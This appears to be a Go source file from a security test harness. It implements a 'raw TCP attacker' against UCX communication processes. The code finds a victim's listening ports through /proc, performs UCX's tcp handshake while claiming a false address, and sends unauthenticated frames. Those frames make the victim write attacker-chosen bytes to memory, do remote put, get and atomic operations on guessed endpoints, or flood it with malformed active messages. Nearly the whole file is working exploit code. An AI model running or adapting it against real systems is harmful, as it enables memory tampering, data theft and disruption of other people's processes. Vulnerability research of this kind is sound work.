package main

import (
	"bufio"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"
)

// The raw TCP attacker: a plain socket to one of the victim's UCX tcp listening ports, speaking
// UCX's tcp transport protocol itself. After the connection request (magic number, then a
// request that claims an interface address of its own choosing) the victim's tcp transport
// treats the socket as a peer's receive side and hands every active message on it to ucp,
// whoever sent it. No UCX library and no ucp wireup is involved: the frames are the attacker's.

// rawTarget is one listening socket of the victim that is not its control plane.
type rawTarget struct {
	Addr   string `json:"addr"`
	Family int    `json:"family"` // 4 or 6
}

// rawPorts lists the victim's listening TCP sockets (from /proc: its file descriptors and its
// network namespace's socket tables), less the ports in c.Skip.
func rawPorts(c cmd) (map[string]any, error) {
	targets, err := listeners(c.Pid, c.Skip)
	if err != nil {
		return nil, err
	}
	return map[string]any{"targets": targets}, nil
}

func listeners(pid int, skip []int) ([]rawTarget, error) {
	if _, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid)); err != nil {
		return nil, fmt.Errorf("the victim's descriptors: %w (the raw attacker needs to see /proc/%d: same user or root)", err, pid)
	}
	skipped := map[int]bool{}
	for _, p := range skip {
		skipped[p] = true
	}
	var out []rawTarget
	for _, s := range sockets(pid) {
		if !s.listening || skipped[s.port] {
			continue
		}
		ip := s.ip
		if ip.IsUnspecified() {
			ip = net.IPv4(127, 0, 0, 1)
			if s.family == 6 {
				ip = net.IPv6loopback
			}
		}
		out = append(out, rawTarget{Addr: net.JoinHostPort(ip.String(), strconv.Itoa(s.port)), Family: s.family})
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("process %d listens on no TCP port besides %v: is tcp among its UCX transports?", pid, skip)
	}
	return out, nil
}

// socket is one TCP socket of a process, from /proc.
type socket struct {
	ip        net.IP
	port      int
	family    int
	listening bool
}

// sockets lists the TCP sockets process pid holds: the entries of its network namespace's
// socket tables whose inode is one of its descriptors.
func sockets(pid int) []socket {
	fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
	inodes := map[string]bool{}
	for _, fd := range fds {
		l, err := os.Readlink(filepath.Join(fmt.Sprintf("/proc/%d/fd", pid), fd.Name()))
		if err == nil && strings.HasPrefix(l, "socket:[") {
			inodes[strings.TrimSuffix(strings.TrimPrefix(l, "socket:["), "]")] = true
		}
	}
	var out []socket
	for _, tab := range []struct {
		file   string
		family int
	}{{"tcp", 4}, {"tcp6", 6}} {
		f, err := os.Open(fmt.Sprintf("/proc/%d/net/%s", pid, tab.file))
		if err != nil {
			continue
		}
		s := bufio.NewScanner(f)
		s.Scan() // the heading
		for s.Scan() {
			fields := strings.Fields(s.Text())
			if len(fields) < 10 || !inodes[fields[9]] {
				continue // not the process's
			}
			ip, port, err := procAddr(fields[1])
			if err != nil {
				continue
			}
			out = append(out, socket{ip: ip, port: port, family: tab.family, listening: fields[3] == "0A"})
		}
		f.Close()
	}
	return out
}

// procAddr decodes "0100007F:1F90" (an address as /proc/net/tcp prints it: 32-bit words in
// host order) and its port.
func procAddr(s string) (net.IP, int, error) {
	h, p, ok := strings.Cut(s, ":")
	if !ok {
		return nil, 0, errors.New("no port")
	}
	raw, err := hex.DecodeString(h)
	if err != nil || (len(raw) != 4 && len(raw) != 16) {
		return nil, 0, errors.New("bad address")
	}
	for i := 0; i < len(raw); i += 4 {
		raw[i], raw[i+1], raw[i+2], raw[i+3] = raw[i+3], raw[i+2], raw[i+1], raw[i]
	}
	port, err := strconv.ParseUint(p, 16, 16)
	return net.IP(raw), int(port), err
}

// speaksRaw says whether the raw attacker knows the victim's release's tcp wire protocol
// (checked against the sources of 1.13 and 1.22, where it is the same).
func speaksRaw(version string) error {
	for _, v := range []string{"1.13.", "1.22."} {
		if strings.HasPrefix(version, v) {
			return nil
		}
	}
	return fmt.Errorf("the raw TCP attacker speaks UCX 1.13 and 1.22's tcp wire protocol; the victim links UCX %q", version)
}

// rawConn is one raw connection after its handshake.
type rawConn struct {
	c       net.Conn
	target  rawTarget
	acked   bool
	replies map[uint8]int // messages the victim sent back, by tcp active-message id
	closed  string        // how the connection ended, when it did
}

// rawDial connects and sends the connection request; the victim answers an accepted request
// with a CONN_ACK.
func rawDial(t rawTarget, timeout time.Duration) (*rawConn, error) {
	c, err := net.DialTimeout("tcp", t.Addr, timeout)
	if err != nil {
		return nil, err
	}
	var sn [8]byte
	_, _ = rand.Read(sn[:])
	r := &rawConn{c: c, target: t, replies: map[uint8]int{}}
	if _, err := c.Write(tcpConnRequest(binary.LittleEndian.Uint64(sn[:]), claimedAddr(t.Family))); err != nil {
		c.Close()
		return nil, err
	}
	r.read(timeout, func() bool { return r.acked })
	return r, nil
}

// claimedAddr is the interface address the raw connection claims: port 1 of the loopback
// address, where no UCX interface listens, so the victim matches it to none of its endpoints.
func claimedAddr(family int) []byte {
	if family == 6 {
		b := binary.LittleEndian.AppendUint16(nil, 10) // AF_INET6
		b = binary.BigEndian.AppendUint16(b, 1)
		b = append(b, 0, 0, 0, 0) // flow info
		b = append(b, net.IPv6loopback...)
		return append(b, 0, 0, 0, 0) // scope id
	}
	b := binary.LittleEndian.AppendUint16(nil, 2) // AF_INET
	b = binary.BigEndian.AppendUint16(b, 1)
	b = append(b, 127, 0, 0, 1)
	return append(b, make([]byte, 8)...)
}

// read consumes what the victim sends until done holds, the connection ends, or timeout.
func (r *rawConn) read(timeout time.Duration, done func() bool) {
	deadline := time.Now().Add(timeout)
	hdr := make([]byte, tcpAMHdrLen)
	for (done == nil || !done()) && r.closed == "" {
		_ = r.c.SetReadDeadline(deadline)
		if _, err := io.ReadFull(r.c, hdr); err != nil {
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				return
			}
			r.closed = err.Error()
			return
		}
		body := make([]byte, binary.LittleEndian.Uint32(hdr[1:]))
		if _, err := io.ReadFull(r.c, body); err != nil {
			r.closed = err.Error()
			return
		}
		r.replies[hdr[0]]++
		if hdr[0] == tcpAMConnMgmt && len(body) >= 4 && binary.LittleEndian.Uint32(body)&tcpConnAck != 0 {
			r.acked = true
		}
	}
}

func (r *rawConn) result() map[string]any {
	replies := map[string]int{}
	for id, n := range r.replies {
		replies[strconv.Itoa(int(id))] = n
	}
	return map[string]any{"addr": r.target.Addr, "handshake": r.acked, "replies": replies, "closed": r.closed}
}

// rawTargets lists the victim's UCX ports, or says why the raw attack cannot run here.
func rawTargets(c cmd) ([]rawTarget, string, error) {
	if err := speaksRaw(c.Version); err != nil {
		return nil, err.Error(), nil
	}
	t, err := listeners(c.Pid, c.Skip)
	return t, "", err
}

// rawTCPPut sends the tcp transport's PUT request for c.Data at c.Addr on a fresh raw connection
// to each UCX port: the victim's tcp transport copies the bytes there itself unless it refuses.
func (a *attacker) rawTCPPut(c cmd, timeout time.Duration) (map[string]any, error) {
	targets, skip, err := rawTargets(c)
	if err != nil || skip != "" {
		return map[string]any{"skipped": skip}, err
	}
	data, err := hex.DecodeString(c.Data)
	if err != nil || len(data) == 0 {
		return nil, errors.New("raw_tcp_put: data: want hex bytes")
	}
	results := onEach(targets, timeout, func(r *rawConn) map[string]any {
		if r.acked {
			if _, err := r.c.Write(tcpPutRequest(c.Addr, data, 1)); err != nil {
				r.closed = err.Error()
			}
			r.read(min(timeout, 2*time.Second), func() bool { return r.replies[tcpAMPutAck] > 0 })
		}
		return r.result()
	})
	return map[string]any{"results": results}, nil
}

// rawUCP sends ucp's software RMA messages (c.UCP: put, get or atomic) at c.Addr once for each
// endpoint id in c.EPIDs on one raw connection per UCX port. ucp looks each id up in the
// victim's endpoint table and, for an id it finds, writes, reads or adds at the address and
// answers that endpoint's peer, not this socket: what the attempt did is seen in the victim's
// memory and on the wire (the observer), not here.
func (a *attacker) rawUCP(c cmd, timeout time.Duration) (map[string]any, error) {
	targets, skip, err := rawTargets(c)
	if err != nil || skip != "" {
		return map[string]any{"skipped": skip}, err
	}
	data, _ := hex.DecodeString(c.Data)
	msg := func(i int, id uint64) []byte {
		switch c.UCP {
		case "put":
			return tcpAM(ucpAMPut, ucpPut(c.Addr, id, data))
		case "get":
			return tcpAM(ucpAMGetReq, ucpGetReq(c.Addr, c.Len, id, uint64(2*i+1)))
		case "atomic":
			return tcpAM(ucpAMAtomicReq, ucpAtomicReq(c.Addr, id, uint64(2*i+1), c.Value))
		}
		return nil
	}
	if msg(0, 0) == nil {
		return nil, fmt.Errorf("raw_ucp: ucp %q: want put, get or atomic", c.UCP)
	}
	results := sendOnEach(targets, timeout, func(r *rawConn) int {
		sent := 0
		for i, id := range c.EPIDs {
			if !r.acked || r.closed != "" {
				break
			}
			if _, err := r.c.Write(msg(i, id)); err != nil {
				r.closed = err.Error()
				break
			}
			sent++
		}
		return sent
	})
	return map[string]any{"results": results}, nil
}

// rawAM sends c.Count UCT active messages with id c.AMID (0 when absent; the caller picks one
// ucp registers no handler for, so UCX's stub handler gets them) on one raw connection per UCX
// port, each the size of the smallest frame that made UCX print a warning, a hex dump and a
// backtrace: 39 bytes.
func (a *attacker) rawAM(c cmd, timeout time.Duration) (map[string]any, error) {
	targets, skip, err := rawTargets(c)
	if err != nil || skip != "" {
		return map[string]any{"skipped": skip}, err
	}
	if c.AMID < 0 || c.AMID >= tcpAMConnMgmt || c.Count <= 0 {
		return nil, fmt.Errorf("raw_am: am_id %d, count %d: want an id below %d (ucp's range) and a count above 0", c.AMID, c.Count, tcpAMConnMgmt)
	}
	body := make([]byte, 39-tcpAMHdrLen)
	for i := range body {
		body[i] = 0x41
	}
	frame := tcpAM(uint8(c.AMID), body)
	results := sendOnEach(targets, timeout, func(r *rawConn) int {
		// Batched writes: the victim reads them as one stream of frames all the same.
		const batch = 100
		buf := make([]byte, 0, batch*len(frame))
		sent := 0
		for sent < c.Count && r.acked && r.closed == "" {
			n := min(batch, c.Count-sent)
			buf = buf[:0]
			for range n {
				buf = append(buf, frame...)
			}
			_ = r.c.SetWriteDeadline(time.Now().Add(timeout))
			if _, err := r.c.Write(buf); err != nil {
				r.closed = err.Error()
				break
			}
			sent += n
		}
		return sent
	})
	return map[string]any{"results": results}, nil
}

// onEach opens one raw connection to each target, lets use work on it and closes it; use's
// result is the target's. A target that cannot be reached is reported with its error.
func onEach(targets []rawTarget, timeout time.Duration, use func(r *rawConn) map[string]any) []map[string]any {
	var results []map[string]any
	for _, t := range targets {
		r, err := rawDial(t, timeout)
		if err != nil {
			results = append(results, map[string]any{"addr": t.Addr, "error": err.Error()})
			continue
		}
		results = append(results, use(r))
		r.c.Close()
	}
	return results
}

// sendOnEach is onEach for send, which writes on the connection and returns how many messages
// it wrote; what the victim sends back for a moment after is read before the connection closes.
func sendOnEach(targets []rawTarget, timeout time.Duration, send func(r *rawConn) int) []map[string]any {
	return onEach(targets, timeout, func(r *rawConn) map[string]any {
		sent := send(r)
		r.read(min(timeout, 250*time.Millisecond), nil)
		m := r.result()
		m["sent"] = sent
		return m
	})
}
